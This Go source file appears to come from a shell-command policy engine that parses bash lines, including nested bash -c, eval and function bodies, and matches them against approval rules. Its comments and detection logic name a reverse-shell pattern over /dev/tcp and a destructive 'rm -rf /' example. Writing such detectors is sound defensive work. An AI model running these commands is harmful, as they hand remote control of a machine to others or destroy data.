package shellpolicy

import (
	"fmt"
	"slices"
	"strings"
	"sync"

	"github.com/bastion-dev/bastion/policy"
	"mvdan.cc/sh/v3/syntax"
)

const (
	maxDepth    = 8      // nested code: bash -c in bash -c, eval, function calls
	maxCommands = 2000   // statements analysed for one Decide
	maxWords    = 100000 // words expanded for one Decide
)

var parsers = sync.Pool{New: func() any { return syntax.NewParser(syntax.Variant(syntax.LangBash)) }}

// analyzer walks one command line for one Decide call.
type analyzer struct {
	p        *Policy
	in       Input
	src      string // source the current positions refer to
	pos      string // when set, the position every finding reports (inside nested code)
	depth    int
	steps    int
	expanded int // words expanded, against maxWords

	findings []Finding
	funcs    map[string]*funcDef
	calling  map[*syntax.FuncDecl]bool
	procs    map[*syntax.ProcSubst]*stream // what each process substitution outputs
	written  map[string][]string           // texts the command line writes to files, by path (see scripts.go)
	defs     []*funcDef                    // every function defined, in order
	complex  bool                          // maxCommands was reached
}

type funcDef struct {
	decl     *syntax.FuncDecl
	src      string // the code it is defined in
	pos      string // a.pos where it is defined (inside nested code)
	sc       *scope // the scope it is defined in
	analysed bool   // its body was analysed at a call
}

func newAnalyzer(p *Policy, in Input) *analyzer { return &analyzer{p: p, in: in} }

// frame gathers what one statement does, for one Finding.
type frame struct {
	pos     string
	argv    []string  // the command as shown in the finding
	name    string    // the command name, for messages
	hits    []hit     //
	targets []string  // paths it deletes or writes
	layers  [][]field // the command at each wrapper layer, for matchers
	show    bool      // a command ran here (not only nested code)
	netStd  bool      // standard input or output is redirected to the network
}

func (a *analyzer) hit(fr *frame, rule, arg string) {
	fr.hits = append(fr.hits, hit{rule: rule, arg: arg, cmd: fr.name})
}

func (a *analyzer) newFrame(n syntax.Node) *frame {
	if a.pos != "" {
		return &frame{pos: a.pos}
	}
	p := n.Pos()
	return &frame{pos: fmt.Sprintf("%d:%d", p.Line(), p.Col())}
}

// endFrame matches the policy's rules on what the statement ran and records
// its finding.
func (a *analyzer) endFrame(fr *frame) {
	a.reverseShell(fr)
	for _, argv := range fr.layers {
		if dryRun(argv) {
			continue // a dry run changes nothing: the risky-operation rules do not apply
		}
		name, _ := commandName(argv[0].s)
		if l := strings.ToLower(name); l != name && a.p.byName[l] != nil {
			name = l
		}
		rules := a.p.byName[name]
		for _, list := range [][]*rule{rules, a.p.anyName} {
			for _, r := range list {
				v := r.pick(a.in)
				if v == nil || v.disabled {
					continue
				}
				for _, m := range v.match {
					if ok, maybe := m.match(name, argv[1:], fr.targets); ok {
						fr.hits = append(fr.hits, hit{rule: r.id, arg: subcommand(argv), maybe: maybe, cmd: name})
						break
					}
				}
			}
		}
	}
	if !fr.show && len(fr.hits) == 0 {
		return
	}
	res := a.p.strictest(fr.hits, a.in, fr.name)
	argv, copied := fr.argv, false
	for i, s := range argv {
		if h := human(s); h != s {
			if !copied {
				argv, copied = append([]string(nil), argv...), true
			}
			argv[i] = h
		}
	}
	f := Finding{Command: argv, Result: res, Pos: fr.pos}
	if res.Decision == policy.Approve {
		f.Approvals = a.approvals(fr, res)
	}
	a.findings = append(a.findings, f)
}

// approvals lists every rule that asks to approve the command of fr, each
// once, res (the strictest) first: an approver must see all of them, not
// only the one that speaks for the command.
func (a *analyzer) approvals(fr *frame, res policy.Result) []policy.Result {
	out := []policy.Result{res}
	for _, h := range fr.hits {
		r, ok := a.p.result(h, a.in, fr.name)
		if ok && r.Decision == policy.Approve && !slices.ContainsFunc(out, func(o policy.Result) bool { return o.Rule == r.Rule }) {
			out = append(out, r)
		}
	}
	return out
}

// dryRun reports --dry-run (kubectl, helm, git push, apt...) other than
// kubectl's --dry-run=none, which is a real run.
func dryRun(argv []field) bool {
	for _, f := range argv[1:] {
		if f.s == "--" {
			return false
		}
		if f.s == "--dry-run" || strings.HasPrefix(f.s, "--dry-run=") && f.s != "--dry-run=none" && f.s != "--dry-run=false" {
			return true
		}
	}
	return false
}

// reverseShell turns a network redirection on a shell (bash -i >&
// /dev/tcp/HOST/PORT 0>&1) or on exec without a command (which rewires the
// shell itself) into a reverse shell.
func (a *analyzer) reverseShell(fr *frame) {
	var net string
	for _, h := range fr.hits {
		if h.rule == ruleNetRedirect {
			net = h.arg
			break
		}
	}
	if net == "" {
		return
	}
	if len(fr.layers) == 0 {
		return
	}
	for _, argv := range fr.layers {
		n, _ := commandName(argv[0].s)
		if shellNames[n] || n == "exec" && len(argv) == 1 && fr.netStd {
			fr.hits = append(fr.hits, hit{rule: ruleReverseShell, arg: net, cmd: n})
			return
		}
	}
}

// subcommand is the first argument that is not a flag, for messages.
func subcommand(argv []field) string {
	for _, f := range argv[1:] {
		if !strings.HasPrefix(f.s, "-") {
			return f.disp
		}
	}
	return strings.Join(display(argv), " ")
}

func display(argv []field) []string {
	out := make([]string, len(argv))
	for i := range argv {
		out[i] = argv[i].disp
	}
	return out
}

// step counts statements; past maxCommands the rest is not analysed and the
// outcome is at least approve.
func (a *analyzer) step() bool {
	a.steps++
	if a.steps > maxCommands {
		a.complex = true
		return false
	}
	return true
}

// run analyses a whole command line.
func (a *analyzer) run(cmd string) {
	cmd = sanitize(cmd)
	f, err := a.parse(cmd)
	if err != nil {
		fr := &frame{pos: "1:1", show: true, argv: []string{cmd}}
		var pe syntax.ParseError
		if perr, ok := err.(syntax.ParseError); ok {
			pe = perr
			fr.pos = fmt.Sprintf("%d:%d", pe.Pos.Line(), pe.Pos.Col())
		}
		a.hit(fr, ruleParseError, err.Error())
		a.endFrame(fr)
		return
	}
	a.src = cmd
	a.stmts(&scope{}, f.Stmts)
	a.uncalled()
}

// uncalled analyses, with unknown arguments, the bodies of the functions
// no call analysed: functions never called (an interactive session may call
// them on a later line) and calls nested too deeply. A definition cannot
// hide anything.
func (a *analyzer) uncalled() {
	for i := 0; i < len(a.defs) && !a.complex; i++ { // analysing a body may define more
		fd := a.defs[i]
		if fd.analysed {
			continue
		}
		src, pos := a.src, a.pos
		a.src, a.pos = fd.src, fd.pos
		fr := a.newFrame(fd.decl)
		b := fd.sc.child()
		b.setArgs(nil)
		a.callBody(b, fd, fr)
		a.endFrame(fr)
		a.src, a.pos = src, pos
	}
}

func (a *analyzer) parse(src string) (*syntax.File, error) {
	p := parsers.Get().(*syntax.Parser)
	defer parsers.Put(p)
	return p.Parse(strings.NewReader(src), "")
}

// outcome is the strictest finding.
func (a *analyzer) outcome() Outcome {
	if a.complex {
		fr := &frame{pos: "1:1", show: true}
		a.hit(fr, ruleTooComplex, "")
		a.endFrame(fr)
	}
	out := Outcome{Findings: a.findings}
	for i, f := range a.findings {
		if i == 0 || better(f.Result, out.Result) {
			out.Result = f.Result
		}
	}
	if len(a.findings) == 0 {
		out.Result = a.p.strictest(nil, a.in, "")
	}
	return out
}

// nested analyses code found inside a command (bash -c, eval, here-docs fed
// to a shell, ssh host 'cmd'). Its findings report the outer position. The
// code reads env's standard input (bash -c 'sh' <<< 'rm -rf /').
func (a *analyzer) nested(env *cmdEnv, code, what string, args []string) {
	fr := env.fr
	if strings.ContainsRune(code, markAny) {
		a.hit(fr, ruleDynamicCommand, what)
		return
	}
	if a.depth >= maxDepth {
		a.hit(fr, ruleTooDeep, what)
		return
	}
	f, err := a.parse(code)
	if err != nil {
		a.hit(fr, ruleParseError, what+": "+err.Error())
		return
	}
	depth, src, pos := a.depth, a.src, a.pos
	a.depth++
	a.src = code
	a.pos = fr.pos
	sc := env.sc.child()
	sc.setArgs(args) // nil args: unknown
	a.block(sc, f.Stmts, env.in)
	a.depth, a.src, a.pos = depth, src, pos
}

// nestedField analyses the code in f (bash -c 'code', trap 'code').
func (a *analyzer) nestedField(env *cmdEnv, f field, what string, args []string) {
	hits := len(env.fr.hits)
	if f.dyn {
		a.hit(env.fr, ruleDynamicCommand, what+" "+f.disp)
		return
	}
	a.nested(env, f.s, what, args)
	// the vehicle itself is not a finding unless something was found on it
	env.fr.show = len(env.fr.hits) > hits
}

// nestedArgs analyses args joined by spaces as code (eval, ssh, watch).
func (a *analyzer) nestedArgs(env *cmdEnv, args []field, what string) {
	if len(args) == 0 {
		return
	}
	parts := make([]string, len(args))
	dyn := false
	for i, f := range args {
		parts[i] = f.s
		dyn = dyn || f.dyn
	}
	a.nestedField(env, field{s: strings.Join(parts, " "), disp: strings.Join(display(args), " "), dyn: dyn}, what, nil)
}

func (a *analyzer) srcOf(n syntax.Node) string {
	if w, ok := n.(*syntax.Word); ok && len(w.Parts) == 0 {
		return ""
	}
	start, end := n.Pos(), n.End()
	if !start.IsValid() || !end.IsValid() {
		return "…"
	}
	s, e := int(start.Offset()), int(end.Offset())
	if s < 0 || e > len(a.src) || s > e {
		return "…"
	}
	return a.src[s:e]
}
